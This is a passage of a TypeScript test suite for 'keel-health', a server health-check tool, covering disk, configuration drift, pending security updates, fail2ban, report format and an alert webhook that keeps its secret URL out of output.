    l.writeConf({ disk_warn_percent: String(warn + 1), disk_crit_percent: "100" });
    expect((await l.report("disk")).run.code).toBe(0);
    l.writeConf();

    expect(fillTo(98)).toBeGreaterThanOrEqual(95);
    const down = await l.report("disk");
    expect([down.run.code, down.checks.disk.status]).toEqual([2, "down"]);
    expect(down.checks.disk.todo).toContain("Disk full");
  });
});

describe("keel-health: drift, security updates, fail2ban", { timeout: 120_000 }, () => {
  it("reports files keel placed that were changed or removed by hand (keel-place's real manifest)", async () => {
    const l = layout();
    const placed = [join(l.root, "etc", "a.conf"), join(l.root, "etc", "b.conf")];
    const bundle = { files: placed.map((path) => ({ path, owner: "root", group: "root", mode: "0644", content: "as keel wrote it\n" })) };
    const env = { ...process.env, KEEL_MANIFEST: join(l.keel, "manifest.json") };
    expect(spawnSync(join(l.tools, "keel-place"), [], { input: stableJson(bundle), env, encoding: "utf8" }).status).toBe(0);
    expect((await l.report("drift")).run.code).toBe(0);
    writeFileSync(placed[0], "edited by hand at 3 a.m.\n");
    rmSync(placed[1]);
    const r = await l.report("drift");
    expect([r.run.code, r.checks.drift.status]).toEqual([1, "degraded"]);
    expect(r.checks.drift.details.drifted).toEqual([`changed ${placed[0]} (content)`, `missing ${placed[1]}`]);
    rmSync(join(l.keel, "manifest.json"));
    expect((await l.report("drift")).checks.drift.status).toBe("unknown");
  });

  it("counts pending security updates from apt's cached lists, and degrades only after the grace period", async () => {
    const l = layout();
    const apt = fakeAptState(join(l.root, "apt"));
    const fresh = await l.report("updates", { APT_CONFIG: apt });
    expect(fresh.run.code).toBe(0);
    expect(fresh.checks.updates.details).toMatchObject({ pending: 1, packages: ["keel-fake-a"], grace_hours: 48 });
    expect(fresh.checks.updates.summary).toMatch(/^1 security update\(s\) pending since .* \(unattended-upgrades installs them; degraded after 48 h\): keel-fake-a/);
    // --record notes when they were first seen; 49 hours later the host is degraded.
    await l.health(["--record", "--only", "updates"], { APT_CONFIG: apt });
    const state = readFileSync(join(l.keel, "health.state"), "utf8");
    const since = Number(/security_pending_since=(\d+)/.exec(state)![1]);
    expect(Math.abs(since - Date.now() / 1000)).toBeLessThan(120);
    writeFileSync(join(l.keel, "health.state"), state.replace(/security_pending_since=\d+/, `security_pending_since=${since - 49 * 3600}`));
    const late = await l.report("updates", { APT_CONFIG: apt });
    expect([late.run.code, late.checks.updates.status]).toEqual([1, "degraded"]);
    expect(late.checks.updates.summary).toMatch(/^1 security update\(s\) pending for 49\.\d h: keel-fake-a/);
  });

  it("reports apt failing as unknown, not as 'no updates'", async () => {
    const l = layout();
    const broken = join(l.root, "broken-apt.conf");
    writeFileSync(broken, "Dir::State::status {{ not apt's syntax\n");
    const r = await l.report("updates", { APT_CONFIG: broken });
    expect([r.run.code, r.checks.updates.status]).toEqual([1, "unknown"]);
  });

  it("reports fail2ban not running (this machine runs none) as degraded", async () => {
    const r = await layout().report("fail2ban");
    expect([r.run.code, r.checks.fail2ban.status]).toEqual([1, "degraded"]);
    expect(r.checks.fail2ban.summary).toMatch(/^fail2ban (jail sshd is not running|is not installed)/);
  });
});

/**
 * An apt state of its own: two installed packages at 1.0, and two repositories (a file: URI each)
 * with 1.1 — one whose Release says Debian-Security/stable-security, one plain stable. Real apt
 * reads it through APT_CONFIG; `apt-get update` on file: URIs needs no network.
 */
function fakeAptState(dir: string): string {
  for (const d of ["repo/sec", "repo/main", "lists/partial", "cache/archives/partial", "parts"]) mkdirSync(join(dir, d), { recursive: true });
  const installed = (name: string) =>
    `Package: ${name}\nStatus: install ok installed\nPriority: optional\nSection: misc\nInstalled-Size: 1\nMaintainer: keel <keel@example.invalid>\nArchitecture: all\nVersion: 1.0\nDescription: keel test package\n\n`;
  writeFileSync(join(dir, "status"), installed("keel-fake-a") + installed("keel-fake-b"));
  const available = (name: string) =>
    `Package: ${name}\nVersion: 1.1\nArchitecture: all\nMaintainer: keel <keel@example.invalid>\nFilename: pool/${name}_1.1_all.deb\nSize: 100\nSHA256: ${"0".repeat(64)}\nDescription: keel test package\n\n`;
  writeFileSync(join(dir, "repo/sec/Packages"), available("keel-fake-a"));
  writeFileSync(join(dir, "repo/main/Packages"), available("keel-fake-b"));
  writeFileSync(join(dir, "repo/sec/Release"), "Origin: Debian\nLabel: Debian-Security\nSuite: stable-security\nCodename: sec\n");
  writeFileSync(join(dir, "repo/main/Release"), "Origin: Debian\nLabel: Debian\nSuite: stable\nCodename: main\n");
  writeFileSync(join(dir, "sources.list"), `deb [trusted=yes] file:${dir}/repo sec/\ndeb [trusted=yes] file:${dir}/repo main/\n`);
  const conf = join(dir, "apt.conf");
  writeFileSync(
    conf,
    [
      `Dir::State::status "${dir}/status";`,
      `Dir::State::Lists "${dir}/lists";`,
      `Dir::Cache "${dir}/cache";`,
      `Dir::Etc::SourceList "${dir}/sources.list";`,
      `Dir::Etc::SourceParts "${dir}/parts";`,
      `Dir::Etc::PreferencesParts "${dir}/parts";`,
      "",
    ].join("\n"),
  );
  const update = spawnSync("apt-get", ["-q", "update"], { env: { ...process.env, APT_CONFIG: conf }, encoding: "utf8" });
  if (update.status !== 0) throw new Error(`apt-get update on the test repositories failed: ${update.stderr}`);
  return conf;
}

describe("keel-health: the report", { timeout: 180_000 }, () => {
  let l: Layout;
  let all: Run;
  beforeAll(async () => {
    l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    all = await l.health(["--json"]);
  }, 180_000);

  it("--json: version, host, app, time, status, exit_code and every check with status, summary, todo, details", () => {
    const r = JSON.parse(all.stdout) as Report;
    expect(Object.keys(r)).toEqual(["version", "host", "app", "time", "status", "exit_code", "checks"]);
    expect(r).toMatchObject({ version: 1, app: "engine", exit_code: all.code });
    expect(r.time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    expect(Object.keys(r.checks)).toEqual(["engine", "db", "backup", "disk", "time", "updates", "fail2ban", "drift", "integrity", "https", "audit-log", "timer"]);
    for (const [name, c] of Object.entries(r.checks)) {
      expect(Object.keys(c), name).toEqual(["status", "summary", "todo", "details"]);
      expect(["ok", "degraded", "down", "unknown"], name).toContain(c.status);
      expect(typeof c.summary, name).toBe("string");
      expect(c.todo === null || typeof c.todo === "string", name).toBe(true);
      expect(typeof c.details, name).toBe("object");
    }
    const worst = Math.max(...Object.values(r.checks).map((c) => ({ ok: 0, degraded: 1, unknown: 1, down: 2 })[c.status]!));
    expect(all.code).toBe(worst);
    expect(r.status).toBe(["healthy", "degraded", "down"][worst]);
  });

  it("--json is what docs/health-report.schema.json says (generated from plan/healthChecks.ts), checked by jsonschema", async () => {
    // A report of a host without its DB too: a check that could not look gives fewer details.
    const bare = layout();
    const reports = [all.stdout, (await bare.health(["--json"])).stdout];
    const check = [
      "import json, sys, jsonschema",
      "schema = json.load(open(sys.argv[1]))",
      "jsonschema.Draft202012Validator.check_schema(schema)",
      "v = jsonschema.Draft202012Validator(schema)",
      "for report in json.load(sys.stdin):",
      "    for e in v.iter_errors(json.loads(report)): print(e.json_path, e.message)",
    ].join("\n");
    // Debian's python3 and its python3-jsonschema (scripts/dev/debian-packages.txt).
    const r = spawnSync("/usr/bin/python3", ["-I", "-c", check, join(REPO, "docs", "health-report.schema.json")], { input: JSON.stringify(reports), encoding: "utf8" });
    expect([r.status, r.stderr, r.stdout]).toEqual([0, "", ""]);
    expect(JSON.parse(reports[1]).checks.db.status).toBe("down");
  });

  it("reads as text: a headline with the exit code, a line per check, and what to do for each that is not ok", async () => {
    const text = await l.health([]);
    expect(text.code).toBe(all.code);
    const lines = text.stdout.split("\n");
    expect(lines[0]).toMatch(new RegExp(`^keel-health: engine on \\S+ at \\d{4}-\\d\\d-\\d\\dT[\\d:]+Z: (HEALTHY|DEGRADED|DOWN) \\(exit ${all.code}\\)$`));
    expect(lines.slice(1, 13).map((x) => x.trim().split(/\s+/)[1])).toEqual(["engine", "db", "backup", "disk", "time", "updates", "fail2ban", "drift", "integrity", "https", "audit-log", "timer"]);
    expect(text.stdout).toMatch(/^ {2}ok {8}db {8}quick_check ok on /m);
    expect(text.stdout).toMatch(/\nwhat to do:\n( {2}\S+ +.*\n)* {2}fail2ban {2}systemctl status fail2ban; /);
  });
});

describe("keel-health --record and the alert webhook", { timeout: 180_000 }, () => {
  let server: Server;
  let port: number;
  const received: Array<Record<string, unknown>> = [];
  let answer = 200;
  const TOKEN = "T000/B000/secret-token-of-the-webhook";
  beforeAll(async () => {
    server = createServer((req, res) => {
      let body = "";
      req.on("data", (c) => (body += c));
      req.on("end", () => {
        received.push({ path: req.url, type: req.headers["content-type"], ...JSON.parse(body) });
        res.writeHead(answer).end();
      });
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    port = (server.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  it("POSTs on each change of status (and back to healthy), retries an undelivered alert, never prints the URL", async () => {
    const l = layout();
    const hook = join(l.keel, "alert-webhook");
    writeFileSync(hook, `http://127.0.0.1:${port}/${TOKEN}\n`, { mode: 0o600 });
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    const record = async () => {
      const r = await l.health(["--record", "--only", "db,backup"]);
      expect(r.stdout + r.stderr).not.toContain("secret-token");
      return r;
    };

    // First run, healthy: nothing to say.
    expect((await record()).code).toBe(0);
    expect(received).toEqual([]);
    expect(statSync(join(l.keel, "health.state")).mode & 0o777).toBe(0o600);

    // Degraded: one alert, then quiet while it stays degraded.
    l.backdateNewestBackup("20250101T000000Z");
    expect((await record()).code).toBe(1);
    expect((await record()).code).toBe(1);
    expect(received).toHaveLength(1);
    expect(received[0]).toMatchObject({ path: `/${TOKEN}`, type: "application/json", version: 1, app: "engine", status: "degraded", previous: "healthy", exit_code: 1 });
    expect((received[0].problems as string[])[0]).toMatch(/^backup: the newest backup is/);
    expect(received[0].text).toMatch(/^keel: engine on \S+ is DEGRADED \(was healthy\): backup: /);

    // Down, with the webhook failing: logged, exit code unchanged, retried on the next run.
    damagePage(l.db, 2);
    answer = 500;
    const failing = await record();
    expect(failing.code).toBe(2);
    expect(failing.stderr).toContain("keel-health-alert: the webhook answered HTTP 500");
    expect(failing.stderr).toContain("the alert webhook was not reached; the next run tries again");
    answer = 200;
    expect((await record()).code).toBe(2);
    expect(received.slice(1).map((a) => [a.status, a.previous])).toEqual([
      ["down", "degraded"],
      ["down", "degraded"],
    ]);

    // Back to healthy.
    makeDb((rmSync(l.db), l.db));
    expect(l.backup()).toBe(0);
    expect((await record()).code).toBe(0);
    expect(received.slice(-1).map((a) => [a.status, a.previous, a.exit_code])).toEqual([["healthy", "down", 0]]);
    expect(readFileSync(join(l.keel, "health.state"), "utf8")).toMatch(/^status=healthy\nsince=\d+\nchecked=\d+\nnotified=healthy\nsecurity_pending_since=\nbackup_sha=.*\n$/);
  });

  it("a --record run that waited for another's lock takes the state that one recorded: no second alert for the same change", async () => {
    const l = layout();
    writeFileSync(join(l.keel, "alert-webhook"), `http://127.0.0.1:${port}/${TOKEN}\n`, { mode: 0o600 });
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    expect((await l.health(["--record", "--only", "db,backup"])).code).toBe(0);
    l.backdateNewestBackup("20250101T000000Z");
    const state = join(l.keel, "health.state");
    const lock = `${state}.lock`;
    const go = join(l.root, "go");
    // Another --record run holds the lock until told to go.
    const holder = spawn("flock", [lock, "sh", "-c", `while [ ! -e '${go}' ]; do sleep 0.05; done`], { stdio: "ignore" });
    try {
      while (spawnSync("flock", ["-n", lock, "true"]).status === 0) await new Promise((r) => setTimeout(r, 50));
      const waiting = new Promise<Run>((resolve) => {
        const child = spawn(HEALTH, ["--record", "--only", "db,backup"], { env: rootToolEnv({ KEEL_HOST_CONF: l.conf }) });
        let stdout = "";
        let stderr = "";
        child.stdout.on("data", (c: Buffer) => (stdout += c.toString()));
        child.stderr.on("data", (c: Buffer) => (stderr += c.toString()));
        child.on("close", (code) => resolve({ code: code ?? -1, stdout, stderr }));
        // Once it waits for the lock (its state read at start said healthy), the holder records the
        // change to degraded and its alert, as a run that got there first does.
        const opened = async () => {
          while (!holdsOpen(child.pid!, lock)) await new Promise((r) => setTimeout(r, 50));
        };
        void opened().then(() => {
          writeFileSync(state, readFileSync(state, "utf8").replace(/^status=.*$/m, "status=degraded").replace(/^notified=.*$/m, "notified=degraded"));
          writeFileSync(go, "");
        });
      });
      const before = received.length;
      const r = await waiting;
      expect(r.code, r.stderr).toBe(1);
      expect(received.length).toBe(before);
      expect(readFileSync(state, "utf8")).toMatch(/^status=degraded\n[\s\S]*^notified=degraded$/m);
    } finally {
      writeFileSync(go, "");
      holder.kill();
    }
  });

  it("stays quiet with no webhook configured (an empty file), and records the state all the same", async () => {
    const l = layout();
    writeFileSync(join(l.keel, "alert-webhook"), "");
    const before = received.length;
    expect((await l.health(["--record", "--only", "db"])).code).toBe(2);
    expect(received.length).toBe(before);
    expect(readFileSync(join(l.keel, "health.state"), "utf8")).toContain("status=down\n");
  });
});

describe("keel-health-alert", () => {
  const alert = join(REPO, TOOLS["health-alert"]);
  function run(url: string, body = '{"status":"down"}') {
    const dir = tempDir("keel-alert-");
    roots.push(dir);
    writeFileSync(join(dir, "url"), url);
    chmodSync(join(dir, "url"), 0o600);
    return spawnSync(alert, [join(dir, "url")], { input: body, encoding: "utf8", timeout: 30_000 });
  }

  it("refuses plain http to anywhere but the loopback address, without connecting and without printing the URL", () => {
    const r = run("http://192.0.2.1/hooks/secret-token\n");
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("is not an https:// URL (nor http:// to the loopback address)");
    expect(r.stderr).not.toContain("secret-token");
  });

  it("fails (1) on an unreachable webhook and names only the reason", () => {
    const r = run("https://127.0.0.1:1/hooks/secret-token");
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^keel-health-alert: the webhook could not be reached: .*refused/);
    expect(r.stderr).not.toContain("secret-token");
  });

  it("refuses an empty file and a body that is not JSON", () => {
    expect(run("").stderr).toContain("no webhook URL in");
    expect(run("https://hooks.example.com/x", "not json").status).toBe(2);
  });
});
